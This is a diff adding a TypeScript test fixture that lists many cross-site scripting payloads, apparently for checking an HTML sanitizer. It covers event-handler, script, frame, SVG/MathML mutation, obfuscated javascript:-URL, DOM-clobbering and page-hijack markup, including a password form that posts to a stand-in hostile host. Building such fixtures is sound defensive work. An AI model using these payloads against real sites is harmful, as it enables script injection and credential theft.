@@ -1,0 +1,141 @@
+/** Markup that tries to run a script, written for this project after the known families. Each calls `pwned()` if it may. */
+const RUN = 'pwned()';
+
+const handlers = [
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x oNeRrOr=${RUN}>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x onerror\u00a0=${RUN}>`,
+  `<img src="x\`><script>${RUN}</script>"\`>`,
+  `<video autoplay src=x onerror=${RUN}><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<p tabindex=0 autofocus onfocus=${RUN}>x</p>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<div style="animation:edu-breathe 1s" onanimationstart=${RUN}>x</div>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<object data=x onerror=${RUN}></object>`,
+  `<a href=x onclick=${RUN}>bấm</a>`,
+];
+
+const scripts = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC="data:text/javascript,${RUN}"></SCRIPT>`,
+  `<script type=module>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script>`,
+  `<<script>${RUN}//<</script>`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode="open"><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
+];
+
+const frames = [
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<frameset><frame src="javascript:${RUN}"></frameset>`,
+  `<embed src="javascript:${RUN}">`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<portal src="javascript:${RUN}"></portal>`,
+];
+
+const namespaces = [
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>bấm</text></a></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><set attributeName=href to="javascript:${RUN}" /><a id=x>bấm</a></svg>`,
+  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<math><mtext><table><mglyph><style><math><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
+  `<math href="javascript:${RUN}">bấm</math>`,
+  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
+  `<svg><desc><table><thead><s></table></s><style><img src=x onerror=${RUN}></style></desc></svg>`,
+  `<svg><title><a href="javascript:${RUN}">bấm</a></title></svg>`,
+  `<x><svg><b><style></b><img src=x onerror=${RUN}></style></svg></x>`,
+];
+
+const mutations = [
+  `<p id="\`></p><img src=x onerror=${RUN}>"`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<title>&lt;/title&gt;&lt;img src=x onerror=${RUN}&gt;</title>`,
+  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
+  `<table><td><a><table><a><img src=x onerror=${RUN}></table></table>`,
+  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!--!><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
+  `<? ><img src=x onerror=${RUN}>`,
+  `<a title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</a>`,
+  `<br id=x><b><u><i><s><font><nobr><a><p><img src=x onerror=${RUN}>`,
+  `${'<div>'.repeat(600)}<img src=x onerror=${RUN}>`,
+  `<b title='\u0000'><img src=x onerror=${RUN}\u0000></b>`,
+];
+
+const links = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\u0009script:${RUN}`,
+  `java\u000ascript:${RUN}`,
+  `java\u000dscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `\u2028javascript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `java&Tab;script&NewLine;:${RUN}`,
+  `//%0ajavascript:${RUN}`,
+  `javascript://so.example.vn/%0a${RUN}`,
+  `data:text/html,<script>opener.${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
+  `vbscript:${RUN}`,
+  `blob:https://so.example.vn/${RUN}`,
+  `filesystem:https://so.example.vn/x`,
+  `feed:javascript:${RUN}`,
+  `view-source:javascript:${RUN}`,
+].flatMap((address) => [
+  `<a href="${address}">bấm</a>`,
+  `<img src="${address}">`,
+  `<area href="${address}">`,
+  `<form action="${address}"><button formaction="${address}">bấm</button></form>`,
+]);
+
+const page = [
+  '<base href="https://xau.example.vn/">',
+  '<meta http-equiv="refresh" content="0;url=https://xau.example.vn/">',
+  '<link rel="stylesheet" href="https://xau.example.vn/x.css">',
+  '<style>@import "https://xau.example.vn/x.css"; * { display: none }</style>',
+  '<p style="position:fixed;inset:0;background:url(https://xau.example.vn/x)">che</p>',
+  '<form action="https://xau.example.vn/"><input name=password type=password></form>',
+  '<form id=test></form><button form=test formaction="https://xau.example.vn/">bấm</button>',
+  '<a name="documentElement"></a><img name="body"><form name="cookie"></form>',
+  '<a id="customElements"></a><a id="defaultView" name="x"></a>',
+  '<form><input name="attributes"><input name="nodeName"><input name="removeChild"></form>',
+  '<form><input id="parentNode"><input name="textContent"></form>',
+  '<edu-provider endpoint="https://xau.example.vn/"></edu-provider><edu-sign-in></edu-sign-in>',
+  '<slot name="x"></slot><p slot="x" part="base" class="notice danger">giả</p>',
+  '<p contenteditable autofocus accesskey=x draggable=true popover=auto inert>x</p>',
+  '<button popovertarget=x command=show-modal commandfor=x>bấm</button><dialog open>x</dialog>',
+  '<img src="https://so.example.vn/a.jpg" srcset="https://xau.example.vn/x 1x" usemap="#m" ismap>',
+  '<video poster="https://xau.example.vn/x"></video><picture><source srcset="https://xau.example.vn/x"></picture>',
+  '<a href="https://xau.example.vn/" target="_top" rel="opener" ping="https://xau.example.vn/" download>bấm</a>',
+];
+
+export const payloads: readonly string[] = [
+  ...handlers,
+  ...scripts,
+  ...frames,
+  ...namespaces,
+  ...mutations,
+  ...links,
+  ...page,
+];
